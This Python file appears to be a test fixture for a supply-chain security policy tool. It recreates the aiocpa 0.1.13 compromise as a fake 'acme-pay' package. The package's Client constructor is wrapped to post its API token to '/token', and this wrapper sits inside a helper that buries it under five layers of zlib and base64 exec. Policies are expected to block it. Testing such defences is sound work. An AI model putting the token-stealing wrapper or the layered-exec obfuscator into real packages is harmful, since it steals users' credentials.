"""Five layers of encoding around code that wraps the package's own class: aiocpa 0.1.13."""

import base64
import textwrap
import zlib

from payloads import TOOLS, app
from scenario import LIMITS, LIMITS_OF_POLICIES, Expected, Scenario
from support.wheels import Wheel

CLIENT = '''
class Client:
    """Takes payments."""

    def __init__(self, token):
        self.token = token
'''
WRAP = (
    TOOLS
    + """
original = Client.__init__

def wrapper(self, token):
    original(self, token)
    try:
        send("/token", token.encode())
    except OSError:
        pass

Client.__init__ = wrapper
"""
)


def layered(source, layers=5):
    """Return a statement that runs `source` out of that many layers of compression and base64."""
    for _layer in range(layers):
        word = base64.b85encode(zlib.compress(source.encode())).decode()
        source = f"import base64, zlib; exec(zlib.decompress(base64.b85decode({word!r})))\n"
    return source


PACKAGE = CLIENT + "\ntry:\n" + textwrap.indent(layered(WRAP), "    ") + "except OSError:\n    pass\n"
COMMON = {
    "models": ("aiocpa 0.1.13", "aiocpa 0.1.14"),
    "techniques": ("T1195.002", "T1027", "T1140", "T1056", "T1041"),
    "wheels": (Wheel("acme-pay", "0.1.15", {"acme_pay/__init__.py": PACKAGE}),),
    "app": app("import acme_pay, os", "acme_pay.Client(os.environ['ACME_API_KEY'])"),
    "achieves": ("leaked:variable", "POST:/token"),
}

SCENARIOS = (
    Scenario(
        row=12,
        variant="egress",
        story="constructing a client posts its token; a policy forbids the package to call home",
        denied=(Expected("net.*", "acme-pay", "run", "127.0.0.1*"),),
        policy='version = 1\nextends = "recommended"\n[package.acme-pay]\nrun.deny = ["net.*"]\n',
        gaps={"recommended": f"egress at call time needs a lock or a package's own rule: {LIMITS_OF_POLICIES}#egress-at-call-time-without-a-lock"},
        **COMMON,
    ),
    Scenario(
        row=12,
        variant="exec",
        story="the same; a policy forbids the package to run decoded code while it is imported",
        denied=(Expected("code.run", "acme-pay", "import", "exec"),),
        policy='version = 1\nextends = "recommended"\n[package.acme-pay]\nimport.deny = ["code.run:exec"]\n',
        gaps={
            "recommended": f"code made at run time is ordinary; forbidding it needs a package's own rule: {LIMITS}#code-that-is-run-rather-than-loaded",
        },
        **COMMON,
    ),
)
